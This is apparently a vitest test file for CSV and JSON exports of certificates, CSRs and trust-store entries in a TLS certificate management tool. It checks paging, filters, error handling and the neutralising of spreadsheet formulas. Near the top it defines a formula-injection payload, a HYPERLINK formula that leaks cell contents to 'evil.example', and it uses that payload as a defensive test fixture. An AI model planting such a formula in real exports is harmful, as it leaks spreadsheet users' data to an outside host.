import crypto from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestDatabase, DATABASE_KINDS, type TestDatabase } from "@/lib/testing/databases";
import { DAY, insertCertificate, seedGateway } from "@/lib/reminder/test-support";
import { EXPORT_PAGE_SIZE, exportFilename, exportStream, resolveScope } from "./inventories";
import { exportQuerySchema, parseExportFile, type ExportFormat, type Inventory } from "./schema";
import { parseCsv } from "@/lib/testing/csv";

const NOW = new Date("2027-03-01T12:00:00Z");
const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

describe.each(DATABASE_KINDS)("inventory exports on %s", (kind) => {
  let t: TestDatabase;
  let gw: Awaited<ReturnType<typeof seedGateway>>;
  let gw2: Awaited<ReturnType<typeof seedGateway>>;

  async function download(
    inventory: Inventory,
    format: ExportFormat,
    query: Record<string, string> = {},
  ) {
    const parsed = exportQuerySchema.parse(query);
    const resolved = await resolveScope(t.prisma, parsed, inventory);
    if (!resolved.ok) throw new Error(resolved.message);
    const text = await new Response(
      exportStream(t.prisma, inventory, format, resolved.scope, NOW),
    ).text();
    return { text, filename: exportFilename(inventory, format, resolved.scope, NOW) };
  }
  const csvRecords = (text: string) => {
    const [header, ...rows] = parseCsv(text);
    return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]])));
  };

  beforeAll(async () => {
    t = await createTestDatabase(kind);
    gw = await seedGateway(t.prisma, { merchantGatewayId: "MGW_000001", renewalLeadDays: 90 });
    gw2 = await seedGateway(t.prisma, { merchantGatewayId: "MGW_000002" });
    await insertCertificate(t.prisma, gw.ppr, new Date(NOW.getTime() + 20 * DAY + 3_600_000), {
      commonName: EVIL,
    });
    await insertCertificate(t.prisma, gw.prd, new Date(NOW.getTime() - 3 * DAY), {
      commonName: "TLSMA-ECDSA/MGW_000001/PRD",
    });
    await t.prisma.csr.create({
      data: {
        environmentId: gw.ppr,
        pem: "x",
        subjectDn: "CN=TLSMA-ECDSA/MGW_000001/PPR,O=Example Payments\\, SAS",
        subject: {},
        commonName: "TLSMA-ECDSA/MGW_000001/PPR",
        keyType: "ECDSA",
        curve: "P-256",
        signatureAlgorithm: "ecdsa-with-SHA256",
        publicKeySha256: "k1",
        origin: "browser",
        status: "submitted",
        submittedAt: new Date("2027-01-10T00:00:00Z"),
        submittedTo: "Thales rep",
        submissionRef: "+CASE-1",
        createdByLabel: "ops@example.com",
        createdAt: new Date("2027-01-09T08:00:00Z"),
      },
    });
    await t.prisma.trustStoreEntry.create({
      data: {
        environmentId: gw.prd,
        kind: "thales_client_ca",
        der: new Uint8Array([1]),
        sha256: "f".repeat(64),
        subjectDn: "CN=Thales Client CA",
        issuerDn: "CN=Thales Root",
        notBefore: new Date("2025-01-01T00:00:00Z"),
        notAfter: new Date(NOW.getTime() + 100 * DAY),
        isCa: true,
        selfIssued: false,
        createdByLabel: "@admin",
      },
    });
    // 2,500 more in MGW_000002/PRD, many sharing one expiry: paging must neither skip nor repeat a tie.
    const same = new Date(NOW.getTime() + 400 * DAY);
    await t.prisma.certificate.createMany({
      data: Array.from({ length: 2500 }, (_, i) => ({
        environmentId: gw2.prd,
        der: new Uint8Array([1]),
        serialNumber: `B${i}`,
        subjectDn: `CN=bulk ${i}`,
        subject: {},
        commonName: `bulk ${i}`,
        issuerDn: "CN=ca",
        notBefore: new Date(NOW.getTime() - 1000 * DAY),
        notAfter: i % 2 ? same : new Date(same.getTime() + i * 60_000),
        keyType: "ECDSA",
        signatureAlgorithm: "x",
        sha256: crypto.createHash("sha256").update(`bulk${i}`).digest("hex"),
        publicKeySha256: `bk${i}`,
        compliant: true,
        checks: [],
        createdByLabel: "bulk",
      })),
    });
  }, 120_000);
  afterAll(() => t.drop());

  it("certificates.csv of one environment: the columns, days left, state and start-renewal-by a user checks; a formula is neutralised", async () => {
    const { text, filename } = await download("certificates", "csv", { environmentId: gw.ppr });
    expect(filename).toBe("certificates-MGW_000001-PPR-2027-03-01.csv");
    const [header] = parseCsv(text);
    expect(header!.slice(0, 5)).toEqual([
      "merchantGatewayId",
      "gatewayName",
      "environment",
      "id",
      "commonName",
    ]);
    expect(header).toEqual(
      expect.arrayContaining([
        "notAfter",
        "daysLeft",
        "state",
        "startRenewalBy",
        "lifecycle",
        "compliant",
        "sha256",
        "revokedAt",
      ]),
    );
    const rows = csvRecords(text);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      merchantGatewayId: "MGW_000001",
      environment: "PPR",
      commonName: `'${EVIL}`, // leading quote: a spreadsheet shows it as text
      daysLeft: "20",
      state: "expiring",
      lifecycle: "expiring",
      compliant: "true",
      startRenewalBy: new Date(NOW.getTime() + 20 * DAY + 3_600_000 - 90 * DAY).toISOString(),
      revokedAt: "",
    });
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it("an expired certificate keeps its negative days left as a number (not quoted away)", async () => {
    const rows = csvRecords(
      (await download("certificates", "csv", { merchantGatewayId: "MGW_000001", env: "PRD" })).text,
    );
    expect(rows.map((r) => [r.commonName, r.daysLeft, r.state])).toEqual([
      ["TLSMA-ECDSA/MGW_000001/PRD", "-3", "expired"],
    ]);
  });

  it("certificates.json: every row once, soonest expiry first, across pages of 1000 with ties", async () => {
    const { text, filename } = await download("certificates", "json");
    expect(filename).toBe("certificates-2027-03-01.json");
    const doc = JSON.parse(text);
    expect(doc).toMatchObject({
      inventory: "certificates",
      exportedAt: NOW.toISOString(),
      filter: {},
      count: 2502,
    });
    expect(doc.rows).toHaveLength(2502);
    expect(2502).toBeGreaterThan(2 * EXPORT_PAGE_SIZE);
    expect(new Set(doc.rows.map((r: { id: string }) => r.id)).size).toBe(2502);
    const expiries = doc.rows.map((r: { notAfter: string }) => r.notAfter);
    expect(expiries).toEqual([...expiries].sort());
    expect(doc.rows[0]).toMatchObject({
      commonName: "TLSMA-ECDSA/MGW_000001/PRD",
      daysLeft: -3,
      state: "expired",
      compliant: true,
      revokedAt: null,
    });
    expect(doc.rows[1].commonName).toBe(EVIL); // JSON is data, not a spreadsheet: kept as is
  });

  it("filters: env alone is that environment of every gateway; expiringWithinDays; a gateway", async () => {
    expect(JSON.parse((await download("certificates", "json", { env: "PRD" })).text).count).toBe(
      2501,
    );
    expect(JSON.parse((await download("certificates", "json", { env: "PPR" })).text).count).toBe(1);
    const soon = JSON.parse(
      (await download("certificates", "json", { expiringWithinDays: "30" })).text,
    );
    expect(soon.rows.map((r: { commonName: string }) => r.commonName)).toEqual([
      "TLSMA-ECDSA/MGW_000001/PRD",
      EVIL,
    ]);
    expect(soon.filter).toEqual({ expiringWithinDays: 30 });
    expect(
      JSON.parse((await download("certificates", "json", { merchantGatewayId: "MGW_000002" })).text)
        .count,
    ).toBe(2500);
  });

  it("state, as on the inventory page, computed with lib/renewal/dates.ts; pages emptied by the filter do not end the file early", async () => {
    const expired = JSON.parse((await download("certificates", "json", { state: "expired" })).text);
    expect(expired.rows.map((r: { commonName: string }) => r.commonName)).toEqual([
      "TLSMA-ECDSA/MGW_000001/PRD",
    ]);
    expect((await download("certificates", "csv", { state: "expiring" })).filename).toBe(
      "certificates-expiring-2027-03-01.csv",
    );
    expect(
      csvRecords((await download("certificates", "csv", { state: "expiring" })).text).map(
        (r) => r.commonName,
      ),
    ).toEqual([`'${EVIL}`]);
    // The 2,500 bulk certificates expire in 400+ days (lead 90): "ok". The two above come first, then 2 full pages of "ok".
    expect(JSON.parse((await download("certificates", "json", { state: "ok" })).text).count).toBe(
      2500,
    );
    expect(
      JSON.parse((await download("certificates", "json", { state: "revoked" })).text),
    ).toMatchObject({ rows: [], count: 0, filter: { state: "revoked" } });
    expect(await resolveScope(t.prisma, { state: "ok" }, "csrs")).toMatchObject({
      ok: false,
      status: 422,
    });
    expect(exportQuerySchema.safeParse({ state: "fine" }).success).toBe(false);
  });

  it("csrs.csv: status, submission and who made it; a cell starting with + is neutralised", async () => {
    const rows = csvRecords(
      (await download("csrs", "csv", { merchantGatewayId: "MGW_000001" })).text,
    );
    expect(rows).toEqual([
      expect.objectContaining({
        environment: "PPR",
        status: "submitted",
        commonName: "TLSMA-ECDSA/MGW_000001/PPR",
        subjectDn: "CN=TLSMA-ECDSA/MGW_000001/PPR,O=Example Payments\\, SAS",
        keyType: "ECDSA",
        curve: "P-256",
        keySize: "",
        submittedTo: "Thales rep",
        submissionRef: "'+CASE-1",
        createdBy: "ops@example.com",
        createdAt: "2027-01-09T08:00:00.000Z",
      }),
    ]);
    expect(
      csvRecords((await download("csrs", "csv", { merchantGatewayId: "MGW_000002" })).text),
    ).toEqual([]);
  });

  it("an empty export still has its header row (CSV) or an empty rows array (JSON)", async () => {
    expect((await download("csrs", "csv", { environmentId: gw2.ppr })).text).toMatch(
      /^merchantGatewayId,gatewayName,environment,id,status,/,
    );
    expect(parseCsv((await download("csrs", "csv", { environmentId: gw2.ppr })).text)).toHaveLength(
      1,
    );
    expect(
      JSON.parse((await download("csrs", "json", { environmentId: gw2.ppr })).text),
    ).toMatchObject({ rows: [], count: 0 });
  });

  it("trust-store-entries: the store slug, days left, CA flag; the Amazon roots prefilled in d1-server-roots; an @ is neutralised", async () => {
    const rows = csvRecords(
      (
        await download("trust-store-entries", "csv", {
          merchantGatewayId: "MGW_000001",
          env: "PRD",
        })
      ).text,
    );
    const thales = rows.find((r) => r.store === "thales-client-ca");
    expect(thales).toMatchObject({
      subjectDn: "CN=Thales Client CA",
      daysLeft: "100",
      isCa: "true",
      selfIssued: "false",
      addedBy: "'@admin",
    });
    const roots = rows.filter((r) => r.store === "d1-server-roots");
    expect(roots.map((r) => r.subjectDn).join(" | ")).toMatch(/Amazon Root CA 1/);
  });

  it("unknown environment or gateway is a clear 404; mixed filters and unknown parameters are refused", async () => {
    expect(await resolveScope(t.prisma, { environmentId: "nope" }, "certificates")).toMatchObject({
      ok: false,
      status: 404,
    });
    expect(await resolveScope(t.prisma, { merchantGatewayId: "MGW_999999" }, "csrs")).toMatchObject(
      { ok: false, status: 404, message: "No gateway MGW_999999." },
    );
    expect(await resolveScope(t.prisma, { expiringWithinDays: 3 }, "csrs")).toMatchObject({
      ok: false,
      status: 422,
    });
    expect(exportQuerySchema.safeParse({ environmentId: gw.ppr, env: "PPR" }).success).toBe(false);
    const unknown = exportQuerySchema.safeParse({ environment: "PPR" });
    expect(unknown.success).toBe(false);
    expect(unknown.error?.issues[0]?.message).toContain("Unknown parameter environment");
    expect(exportQuerySchema.safeParse({ env: "DEV" }).error?.issues[0]?.message).toBe(
      "env must be PPR or PRD.",
    );
    expect(parseExportFile("certificates.xlsx")).toBeNull();
    expect(parseExportFile("trust-store-entries.json")).toEqual({
      inventory: "trust-store-entries",
      format: "json",
    });
  });
});
